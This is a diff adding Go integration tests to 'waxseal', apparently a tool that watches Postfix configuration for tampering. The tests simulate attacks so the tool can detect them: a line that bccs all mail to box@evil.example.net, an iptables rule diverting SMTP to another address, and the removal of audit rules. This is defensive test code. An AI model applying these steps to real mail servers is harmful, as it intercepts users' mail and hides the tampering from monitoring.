@@ -16,6 +16,8 @@ import (
 	_ "modernc.org/sqlite"
 
 	"waxseal"
+	"waxseal/internal/agent"
+	"waxseal/internal/lab"
 	"waxseal/internal/sensor/kaudit"
 )
 
@@ -469,8 +471,8 @@ func TestDropInAppears(t *testing.T) {
 	}
 }
 
-// TestMountOver: what is mounted over the configuration is told within a second, with
-// the time in which it must have happened, and with nobody's name.
+// TestMountOver: what is mounted over the configuration is told within a second, and
+// by whom, as audit proves it.
 func TestMountOver(t *testing.T) {
 	needRoot(t)
 	h := postfixTree(t, nil)
@@ -490,11 +492,11 @@ func TestMountOver(t *testing.T) {
 	f := w.find("the mount", func(f told) bool {
 		return strings.Contains(strings.Join(f.Reasons, "\n"), "another file system is mounted over /etc/postfix/main.cf")
 	})
-	if f.Severity < waxseal.High || f.Actor != nil && f.Actor.Process.Grade != waxseal.Unknown {
+	if f.Severity < waxseal.High || f.Actor.Process.Grade != waxseal.Proven || f.Actor.Process.PID != os.Getpid() {
 		t.Errorf("%s by %+v", f.Severity, f.Actor)
 	}
-	if g := f.Unobserved; g == nil || g.From.After(before) || !g.Until.After(before) || g.Until.Sub(before) > 3*time.Second {
-		t.Errorf("unobserved %+v, mounted at %s", g, before)
+	if f.Unobserved != nil || f.Seen.Sub(before).Abs() > 3*time.Second {
+		t.Errorf("seen %s, unobserved %+v, mounted at %s", f.Seen, f.Unobserved, before)
 	}
 	if out, code := h.run("check"); code != 1 || !strings.Contains(out, "mounted over /etc/postfix/main.cf") {
 		t.Errorf("check: exit code %d\n%s", code, out)
@@ -503,4 +505,66 @@ func TestMountOver(t *testing.T) {
 		t.Fatal(err)
 	}
 	w.find("the end of the mount", func(f told) bool { return f.Change != nil && len(f.Change.Hooks.Removed) > 0 })
+}
+
+// TestAuditIsSilenced: rules that somebody takes away are told within moments, with who
+// it was, and put back.
+func TestAuditIsSilenced(t *testing.T) {
+	needRoot(t)
+	if p := kaudit.Probe(); !p.Usable {
+		t.Skip("audit can't be used here: " + strings.Join(p.Problems, "; "))
+	}
+	h := postfixTree(t, nil)
+	w := h.watch()
+	defer w.stop()
+	start := time.Now()
+	if n, err := kaudit.RemoveLeftovers(agent.AuditKey, false); err != nil || n == 0 {
+		t.Fatalf("%d rules removed, %v", n, err)
+	}
+	f := w.find("audit that was silenced", isNew("watch-silenced"))
+	if f.Actor == nil || f.Actor.Process.PID != os.Getpid() || f.Actor.Process.Grade != waxseal.Proven {
+		t.Errorf("actor %+v", f.Actor)
+	}
+	t.Logf("told after %v: %s", f.at.Sub(start), f.Explain)
+	wait(t, "the rules to be back", func() bool { return len(kaudit.Leftovers(agent.AuditKey)) > 0 })
+	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
+	f = w.find("the copy", isNew("mail-copy"))
+	if f.Actor.Process.Grade != waxseal.Proven {
+		t.Errorf("after the rules are back: %+v", f.Actor.Process)
+	}
+}
+
+// TestTrafficIsDiverted: a redirect of SMTP is told, in a network of its own, and once.
+func TestTrafficIsDiverted(t *testing.T) {
+	needRoot(t)
+	tools := lab.Root(t, lab.Tools)
+	h := postfixTree(t, nil)
+	h.config("watch: {fanotify: false, audit: false}\n")
+	bin, err := program()
+	if err != nil {
+		t.Fatal(err)
+	}
+	const script = `trap 'kill $pid; wait $pid' EXIT
+divert() { chroot "$tools" /usr/sbin/iptables-nft -t nat -A OUTPUT -p tcp --dport 25 -j DNAT --to-destination 203.0.113.9:2525; }
+[ $before = false ] || divert
+"$@" >"$out" & pid=$!
+n=0; until [ -S "$state/control.sock" ] || [ $n -gt 100 ]; do n=$((n+1)); sleep 0.1; done; sleep 0.7
+[ $before = true ] || divert
+n=0; until grep -q mail-traffic "$out" || [ $n -gt 20 ]; do n=$((n+1)); sleep 0.1; done`
+	out := filepath.Join(t.TempDir(), "out")
+	for _, before := range []bool{false, true} { // the second run finds what the first has told
+		cmd := exec.Command("/bin/sh", append([]string{"-c", script, "sh", bin}, h.args("watch", "--format", "json")...)...)
+		cmd.Env = append(os.Environ(), "out="+out, "tools="+tools, "state="+h.state, fmt.Sprintf("before=%v", before))
+		cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNET}
+		if said, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("%v: %s", err, said)
+		}
+		text, err := os.ReadFile(out)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := strings.Contains(string(text), "traffic for port 25 is sent to another address (203.0.113.9 port 2525)"); got == before {
+			t.Errorf("told: %v, and was there before: %v\n%s", got, before, text)
+		}
+	}
 }
